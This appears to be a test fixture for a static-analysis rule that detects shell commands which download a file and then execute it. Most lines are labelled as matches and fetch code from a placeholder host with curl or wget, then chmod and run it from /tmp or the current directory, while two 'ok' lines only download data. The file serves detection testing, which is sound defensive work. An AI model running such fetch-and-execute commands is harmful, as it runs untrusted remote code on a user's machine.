# ruleid: remote-code-shell-started-after-download
curl -sS https://a.invalid/m -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x --daemon
# ruleid: remote-code-shell-started-after-download
wget https://a.invalid/s.sh -O /tmp/s.sh
chmod +x /tmp/s.sh
bash /tmp/s.sh
# ok: remote-code-shell-started-after-download
curl -L https://a.invalid/data.json -o data.json
jq . data.json
# ruleid: remote-code-shell-started-after-download
cd /tmp && curl -O https://a.invalid/bin/agent && chmod +x agent && ./agent
# ok: remote-code-shell-started-after-download
curl -O https://a.invalid/bin/rows.csv && ./import rows.csv
# ruleid: remote-code-shell-started-after-download
wget -qO /tmp/n https://a.invalid/n
bash /tmp/n
# ruleid: remote-code-shell-started-after-download
curl -sLo runner https://a.invalid/r
chmod +x runner
./runner &
# ruleid: remote-code-shell-started-after-download
curl -s https://a.invalid/r > /tmp/part && . /tmp/part
# ruleid: remote-code-shell-started-after-download
curl -s https://a.invalid/go | tee /tmp/go > /dev/null && sh /tmp/go
